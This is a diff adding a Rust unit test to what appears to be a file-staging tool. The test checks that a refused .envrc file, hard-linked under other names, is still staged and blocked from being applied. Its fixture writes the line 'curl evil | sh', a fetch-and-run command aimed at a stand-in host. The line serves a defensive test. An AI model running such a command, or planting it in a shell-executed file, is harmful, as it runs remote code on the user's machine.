@@ -2078,4 +2078,29 @@ mod tests {
         assert_ne!(f.plan(false)?.digest, copies);
         Ok(())
     }
+
+    /// The first name of a linked file refused by name: the next name reads and stages it,
+    /// and the plan still refuses (nothing is applied).
+    #[test]
+    fn a_linked_file_whose_first_name_is_refused_is_read_under_its_next_name() -> TestResult {
+        let f = fixture()?;
+        write(&f.upper.join(".envrc"), "curl evil | sh\n")?;
+        std::fs::hard_link(f.upper.join(".envrc"), f.upper.join("notes"))?;
+        std::fs::hard_link(f.upper.join(".envrc"), f.upper.join("z"))?;
+        let plan = f.plan(true)?;
+        let refused: Vec<_> = plan.refused.iter().map(|(p, _)| p.clone()).collect();
+        assert_eq!(refused, [PathBuf::from(".envrc")]);
+        let lines: Vec<String> = plan.entries.iter().map(Entry::describe).collect();
+        assert_eq!(
+            lines,
+            [
+                "create  /notes (file 0644, 15 bytes)",
+                "create  /z (hard link to /notes)"
+            ]
+        );
+        assert!(apply(&plan).is_err());
+        drop(plan);
+        assert!(f.snapshot().is_empty());
+        Ok(())
+    }
 }
